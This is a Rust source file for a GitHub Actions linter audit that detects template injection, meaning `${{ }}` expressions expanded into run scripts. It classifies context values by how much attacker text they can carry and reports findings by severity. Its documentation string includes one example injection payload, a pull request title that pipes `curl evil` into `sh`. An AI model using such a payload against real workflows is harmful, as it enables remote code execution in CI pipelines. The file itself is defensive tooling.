//! `template-injection`: `${{ }}` expansions inside `run:` scripts (and script inputs of
//! actions that execute them, such as `actions/github-script`'s `script`). GitHub expands the
//! expression into the script text before the shell sees it, so attacker-controlled text
//! becomes code (GitHub docs, "Security hardening for GitHub Actions: Understanding the risk
//! of script injections"). Classification follows zizmor's rules: which contexts can carry
//! attacker text, what `inputs`, `env` and `matrix` values can be, and a pedantic note for
//! every other expression in a script. Our context tables are our own, written from GitHub's
//! context and webhook payload documentation.

use chainward_gha::{Expr, ExprKind, Step, Uses, find_expressions, parse_expression};
use chainward_yaml::{Node, Route};

use super::{Audit, AuditInfo, StepParent};
use crate::expressions::ExpressionSite;
use crate::finding::{Confidence, Draft, Focus, Persona, Severity, Sink, Spot};

static INFO: AuditInfo = AuditInfo {
    id: "template-injection",
    description: "code injection via template expansion",
    doc: "# template-injection\n\nFlags `${{ }}` expressions expanded into `run:` scripts (or into code inputs such \
          as `actions/github-script`'s `script:`). The expression is substituted into the script text before \
          the shell runs, so a pull request title like `\"; curl evil | sh; \"` becomes code. Pass values \
          through the environment instead:\n\n```yaml\n- run: echo \"$TITLE\"\n  env:\n    TITLE: \
          ${{ github.event.pull_request.title }}\n```\n\nSeverity follows what the context can hold: free text \
          from outsiders is high; structured values (names with a restricted alphabet, URLs) medium; fixed \
          values (numbers, SHAs, booleans) are not flagged; anything else in a script is a pedantic note.\n",
};

pub(super) struct TemplateInjection;

/// Contexts whose values cannot carry shell syntax: numbers, SHAs, booleans, GitHub-chosen
/// enums and paths. Patterns use `*` for any one part.
const FIXED: &[&str] = &[
    // The workflow's own repository and its owner: chosen by the repository's admins, not by
    // whoever triggers the run, and limited to alphanumerics, `-`, `_` and `.`.
    "github.repository",
    "github.repository_owner",
    // Account names are limited to alphanumerics and hyphens.
    "github.actor",
    "github.triggering_actor",
    "github.action",
    "github.action_path",
    "github.action_repository",
    "github.actor_id",
    "github.api_url",
    "github.event.after",
    "github.event.before",
    "github.event.action",
    "github.event.number",
    "github.event.issue.number",
    "github.event.issue.id",
    "github.event.comment.id",
    "github.event.review.id",
    "github.event.sender.id",
    "github.event.sender.type",
    "github.event.repository.id",
    "github.event.repository.fork",
    "github.event.repository.private",
    "github.event.pull_request.id",
    "github.event.pull_request.number",
    "github.event.pull_request.merged",
    "github.event.pull_request.draft",
    "github.event.pull_request.head.sha",
    "github.event.pull_request.base.sha",
    "github.event.pull_request.head.repo.fork",
    "github.event.pull_request.head.repo.id",
    "github.event.pull_request.user.id",
    "github.event.pull_request.merge_commit_sha",
    "github.event.workflow_run.id",
    "github.event.workflow_run.head_sha",
    "github.event.workflow_run.conclusion",
    "github.event.workflow_run.run_number",
    "github.event.workflow_run.run_attempt",
    "github.event.head_commit.id",
    "github.event.check_suite.head_sha",
    "github.event.deployment.id",
    "github.event.release.id",
    "github.event.release.draft",
    "github.event.release.prerelease",
    "github.event_name",
    "github.graphql_url",
    "github.job",
    "github.ref_protected",
    "github.ref_type",
    "github.repository_id",
    "github.repository_owner_id",
    "github.retention_days",
    "github.run_attempt",
    "github.run_id",
    "github.run_number",
    "github.secret_source",
    "github.server_url",
    "github.sha",
    "github.workspace",
    "job.container.id",
    "job.status",
    "job.check_run_id",
    "runner.arch",
    "runner.debug",
    "runner.environment",
    "runner.os",
    "runner.temp",
    "runner.tool_cache",
    "strategy.fail-fast",
    "strategy.job-index",
    "strategy.job-total",
    "strategy.max-parallel",
];

/// Contexts with a restricted alphabet or shape (account and repository names, URLs): not
/// free text, but not inert either.
const STRUCTURED: &[&str] = &[
    "github.workflow_ref",
    "github.workflow_sha",
    "github.event.sender.login",
    "github.event.repository.full_name",
    "github.event.repository.name",
    "github.event.repository.html_url",
    "github.event.repository.clone_url",
    "github.event.pull_request.html_url",
    "github.event.pull_request.url",
    "github.event.pull_request.user.login",
    "github.event.pull_request.head.repo.full_name",
    "github.event.pull_request.head.repo.name",
    "github.event.pull_request.head.repo.owner.login",
    "github.event.issue.html_url",
    "github.event.issue.user.login",
    "github.event.comment.html_url",
    "github.event.comment.user.login",
    "github.event.review.user.login",
    "github.event.workflow_run.html_url",
    "github.event.release.html_url",
];

/// Default environment variables (GitHub docs, "Variables: default environment variables")
/// whose values an outsider can influence: branch and tag names, actor names, workflow
/// names. Other `GITHUB_*`/`RUNNER_*` defaults are fixed.
const DEFAULT_ENV_DYNAMIC: &[&str] =
    &["github_actor", "github_base_ref", "github_head_ref", "github_ref", "github_ref_name", "github_triggering_actor"];

fn pattern_matches(pattern: &str, ctx: &str) -> bool {
    let p: Vec<&str> = pattern.split('.').collect();
    let c: Vec<&str> = ctx.split('.').collect();
    p.len() == c.len() && p.iter().zip(&c).all(|(p, c)| *p == "*" || p == c)
}

enum Capability {
    Fixed,
    Structured,
    Arbitrary,
}

fn capability(pattern: &str) -> Option<Capability> {
    if FIXED.iter().any(|p| pattern_matches(p, pattern)) {
        Some(Capability::Fixed)
    } else if STRUCTURED.iter().any(|p| pattern_matches(p, pattern)) {
        Some(Capability::Structured)
    } else {
        None
    }
}

/// Contexts whose value reaches the expression's result: `&&` yields its right side, `||`
/// either, `format`/`join`/`toJSON` their arguments; comparisons and other calls yield
/// booleans or numbers.
fn dataflow_contexts(e: &Expr) -> Vec<&Expr> {
    let mut out = Vec::new();
    let mut todo = vec![e];
    while let Some(x) = todo.pop() {
        // A pure context, or an access on a computed value (`fromJSON(x).field`,
        // `(a || b).number`): the latter has no pattern and is judged unknown.
        if x.context_path().is_some() || matches!(x.kind, ExprKind::Property { .. } | ExprKind::Index { .. }) {
            out.push(x);
            continue;
        }
        match &x.kind {
            ExprKind::Call { name, args }
                if ["tojson", "format", "join"].contains(&name.to_ascii_lowercase().as_str()) =>
            {
                todo.extend(args.iter().rev());
            }
            ExprKind::Binary { op: chainward_gha::BinOp::And, right, .. } => todo.push(right),
            ExprKind::Binary { op: chainward_gha::BinOp::Or, left, right } => {
                todo.push(right);
                todo.push(left);
            }
            _ => {}
        }
    }
    out
}

struct Scope<'a> {
    parent: StepParent<'a>,
    step: &'a Step<'a>,
}

impl Scope<'_> {
    /// What an `inputs.<name>` can hold: typed workflow inputs by type, action inputs are
    /// always strings; both triggers declared means the broader of the two.
    fn input(&self, name: &str) -> Option<Capability> {
        match self.parent {
            StepParent::Action(action) => {
                action.doc.root.get("inputs").and_then(|i| i.get(name)).map(|_| Capability::Arbitrary)
            }
            StepParent::Job(workflow, _) => {
                let on = workflow.on()?;
                let mut found: Option<Capability> = None;
                for trigger in ["workflow_call", "workflow_dispatch"] {
                    let Some(input) = on.get(trigger).and_then(|t| t.get("inputs")).and_then(|i| i.get(name)) else {
                        continue;
                    };
                    let cap = match input.get_str("type").unwrap_or("string") {
                        "boolean" | "number" | "choice" | "environment" => Capability::Fixed,
                        _ => Capability::Arbitrary,
                    };
                    found = Some(match (found, cap) {
                        (Some(Capability::Arbitrary), _) | (_, Capability::Arbitrary) => Capability::Arbitrary,
                        (Some(Capability::Structured), _) | (_, Capability::Structured) => Capability::Structured,
                        _ => Capability::Fixed,
                    });
                }
                found
            }
        }
    }

    /// Whether `env.<name>` is fixed text: a default variable nobody outside controls, or
    /// set (nearest first: step, job, workflow) to a value without expressions. Unknown
    /// means not static, as in zizmor: it may come from `GITHUB_ENV`.
    fn env_is_static(&self, name: &str) -> bool {
        let lower = name.to_ascii_lowercase();
        if lower.starts_with("github_") || lower.starts_with("runner_") {
            return !DEFAULT_ENV_DYNAMIC.contains(&lower.as_str());
        }
        let mut envs: Vec<Option<&Node>> = vec![self.step.get("env")];
        if let StepParent::Job(workflow, job) = self.parent {
            envs.push(job.get("env"));
            envs.push(workflow.doc.root.get("env"));
        }
        for env in envs.into_iter().flatten() {
            if env.as_str().is_some() {
                return false;
            }
            // Contexts are case-insensitive; the env key keeps the case it was written in.
            let found = env
                .as_mapping()
                .and_then(|m| m.iter().find(|(k, _)| k.as_str().is_some_and(|k| k.eq_ignore_ascii_case(name))));
            if let Some((_, v)) = found {
                return v.as_str().is_none_or(|s| find_expressions(s).is_empty());
            }
        }
        false
    }

    /// `Some(static?)` for `matrix.<key>`, `None` when there is no matrix.
    fn matrix_is_static(&self, pattern: &str) -> Option<bool> {
        let StepParent::Job(_, job) = self.parent else { return None };
        let matrix = job.get("strategy")?.get("matrix")?;
        if matrix.as_mapping().is_none() {
            // `matrix: ${{ fromJSON(...) }}`: every value is unknown.
            return Some(false);
        }
        let expansions = job.matrix_expansions();
        Some(expansions.iter().filter(|e| pattern_matches(pattern, &e.path)).all(|e| e.is_static()))
    }
}

/// Code-executing inputs of well-known actions (their READMEs say the input is code).
const SCRIPT_INPUTS: &[(&str, &str, &str)] = &[
    ("actions", "github-script", "script"),
    ("amadevus", "pwsh-script", "script"),
    ("jannekem", "run-python-script-action", "script"),
];

impl Audit for TemplateInjection {
    fn info(&self) -> &'static AuditInfo {
        &INFO
    }

    fn step(&self, parent: StepParent<'_>, step: &Step<'_>, out: &mut Sink<'_>) {
        let mut scripts: Vec<(&str, Route, &str)> = Vec::new();
        if let Some(run) = step.run() {
            scripts.push((run, step.route.key("run"), "this run block"));
        } else if let Some(Uses::Repository(u)) = step.uses() {
            for (owner, repo, input) in SCRIPT_INPUTS {
                if u.owner.eq_ignore_ascii_case(owner)
                    && u.repo.eq_ignore_ascii_case(repo)
                    && u.subpath.is_none()
                    && let Some(script) = step.with(input).and_then(Node::as_str)
                {
                    scripts.push((script, step.route.key("with").key(*input), "via this input"));
                }
            }
        }
        let scope = Scope { parent, step };
        for (script, route, note) in scripts {
            for found in find_expressions(script) {
                let Ok(expr) = parse_expression(found.inner) else { continue };
                let site = ExpressionSite {
                    route: route.clone(),
                    focus: Focus::Text(script.get(found.outer.clone()).unwrap_or_default().to_owned()),
                    expr,
                    value: script.to_owned(),
                    inner_offset: found.outer.start + 3,
                };
                let mut bad = Vec::new();
                for ctx in dataflow_contexts(&site.expr) {
                    let verdict = match ctx.context_pattern() {
                        None => Some((Severity::Informational, Confidence::Low, Persona::Regular)),
                        Some(p) => classify(&scope, ctx, &p),
                    };
                    if let Some(v) = verdict {
                        bad.push((site.sub_focus(ctx.span.clone()), v));
                    }
                }
                if bad.is_empty() {
                    // Not known to be dangerous, but still an expansion into code.
                    bad.push((site.focus.clone(), (Severity::Low, Confidence::High, Persona::Pedantic)));
                }
                for (focus, (severity, confidence, persona)) in bad {
                    let primary = Spot::new(route.clone(), focus, "may expand into attacker-controllable code");
                    let draft = Draft::new(severity, confidence, primary)
                        .persona(persona)
                        .related(Spot::new(route.clone(), Focus::Key, note))
                        .hidden(Spot::new(step.route.clone(), Focus::Value, ""));
                    out.report(draft);
                }
            }
        }
    }
}

/// The verdict for one context, `None` when it is harmless.
fn classify(scope: &Scope<'_>, ctx: &Expr, pattern: &str) -> Option<(Severity, Confidence, Persona)> {
    let regular = Persona::Regular;
    match capability(pattern) {
        Some(Capability::Fixed) => return None,
        Some(Capability::Structured) => return Some((Severity::Medium, Confidence::High, regular)),
        Some(Capability::Arbitrary) => return Some((Severity::High, Confidence::High, regular)),
        None => {}
    }
    let path = ctx.context_path().unwrap_or_default();
    let tail = match path.as_slice() {
        [_, chainward_gha::ContextPart::Name(n)] => Some(n.as_str()),
        _ => None,
    };
    if ctx.context_child_of("secrets")
        || pattern_matches("needs.*.result", pattern)
        || pattern_matches("steps.*.outcome", pattern)
        || pattern_matches("steps.*.conclusion", pattern)
    {
        None
    } else if ctx.context_child_of("inputs") {
        Some(match tail.and_then(|t| scope.input(t)) {
            Some(Capability::Fixed) => (Severity::Low, Confidence::High, Persona::Pedantic),
            Some(Capability::Structured) => (Severity::Medium, Confidence::High, regular),
            Some(Capability::Arbitrary) => (Severity::High, Confidence::High, regular),
            None => (Severity::Low, Confidence::Low, regular),
        })
    } else if ctx.context_child_of("env") {
        let is_static = tail.is_some_and(|t| scope.env_is_static(t));
        Some((Severity::Low, Confidence::High, if is_static { Persona::Pedantic } else { regular }))
    } else if ctx.context_child_of("github") {
        Some((Severity::High, Confidence::High, regular))
    } else if ctx.context_child_of("matrix") {
        match scope.matrix_is_static(pattern)? {
            true => None,
            false => Some((Severity::Medium, Confidence::Medium, regular)),
        }
    } else {
        Some((Severity::Informational, Confidence::Low, regular))
    }
}
